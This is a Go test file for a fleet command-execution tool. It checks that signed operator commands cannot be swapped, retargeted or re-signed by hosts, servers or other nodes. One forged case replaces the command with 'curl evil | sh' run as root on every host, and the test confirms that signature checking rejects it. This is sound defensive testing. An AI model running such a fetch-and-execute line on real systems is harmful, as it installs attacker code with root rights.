package main

import (
	"testing"
	"time"

	"github.com/muster-fleet/muster/exec"
	"github.com/muster-fleet/muster/node"
	"github.com/muster-fleet/muster/node/auth"
	"github.com/muster-fleet/muster/node/auth/authtest"
	"github.com/muster-fleet/muster/node/fleet"
)

// Whatever the host or a server says that a command was, what is signed again is what its operator signed.
func TestWhatIsSignedAgain(t *testing.T) {
	f := authtest.Found("again")
	web, db := f.AddNode("web1", nil, nil), f.AddNode("db1", nil, nil)
	only := []fleet.ID{web.ID}
	command := func(words string) exec.Command {
		return exec.Command{Header: f.Header(time.Hour), Target: "web1", Count: 1, Set: exec.SetDigest(only), Run: exec.Run{Argv: []string{words}}}
	}
	body, other := command("uptime"), command("reboot")
	genuine := f.Operator.Sign(auth.ForCommand, f.ID(), body)
	told := func(change func(*node.CommandInfo)) node.CommandInfo {
		info := node.CommandInfo{ID: body.Header.ID, Body: body, Nodes: only, Statement: []auth.Envelope{genuine}}
		change(&info)
		return info
	}
	lied := told(func(i *node.CommandInfo) {
		i.Body.Run = exec.Run{Argv: []string{"curl evil | sh"}, User: "root"}
		i.Body.Target, i.Operator = "*", "somebody"
	})
	info, err := openSigned(f.Record, lied, body.Header.ID)
	if err != nil || info.Body.Text() != "uptime" || info.Body.Run.User != "" || info.Body.Target != "web1" || info.Operator == "somebody" {
		t.Errorf("%+v, %v", info.Body, err)
	}
	for name, c := range map[string]struct {
		lie  func(*node.CommandInfo)
		kind fleet.Kind
	}{
		"no statement":    {func(i *node.CommandInfo) { i.Statement = nil }, fleet.Unavailable},
		"another command": {func(i *node.CommandInfo) { i.Statement[0] = f.Operator.Sign(auth.ForCommand, f.ID(), other) }, fleet.Denied},
		"a stranger's": {func(i *node.CommandInfo) {
			i.Statement[0] = authtest.Signer("nobody").Sign(auth.ForCommand, f.ID(), body)
		}, fleet.Denied},
		"a node's":           {func(i *node.CommandInfo) { i.Statement[0] = db.Signer.Sign(auth.ForCommand, f.ID(), body) }, fleet.Denied},
		"of another kind":    {func(i *node.CommandInfo) { i.Statement[0] = f.Operator.Sign(auth.ForCancel, f.ID(), body) }, fleet.Denied},
		"another's body":     {func(i *node.CommandInfo) { i.Statement[0].Body = f.Operator.Sign(auth.ForCommand, f.ID(), other).Body }, fleet.Denied},
		"nodes beside":       {func(i *node.CommandInfo) { i.Nodes = append(i.Nodes[:1:1], db.ID) }, fleet.Denied},
		"another's nodes":    {func(i *node.CommandInfo) { i.Nodes = []fleet.ID{db.ID} }, fleet.Denied},
		"nothing to be read": {func(i *node.CommandInfo) { i.Statement[0].Body = []byte{1} }, fleet.Invalid},
	} {
		if _, err := openSigned(f.Record, told(c.lie), body.Header.ID); fleet.KindOf(err) != c.kind {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// What servers tell of a command in the meantime does not come in the place of what was signed.
func TestASightBelievesWhatWasSigned(t *testing.T) {
	a, b := fleet.Sum([]byte("a")), fleet.Sum([]byte("b"))
	id := fleet.UUID{1}
	s := newSight(id, []fleet.ID{a}, time.UnixMilli(1), roll{})
	s.take(node.Update{Info: &node.CommandInfo{ID: id, Nodes: []fleet.ID{a, b}, Body: exec.Command{Target: "*"}}})
	s.believe(node.CommandInfo{ID: id, Nodes: []fleet.ID{a}, Body: exec.Command{Target: "web1"}})
	if s.info.Body.Target != "web1" || len(s.nodes) != 1 || s.nodes[0] != a {
		t.Errorf("%+v, %v", s.info.Body, s.nodes)
	}
}
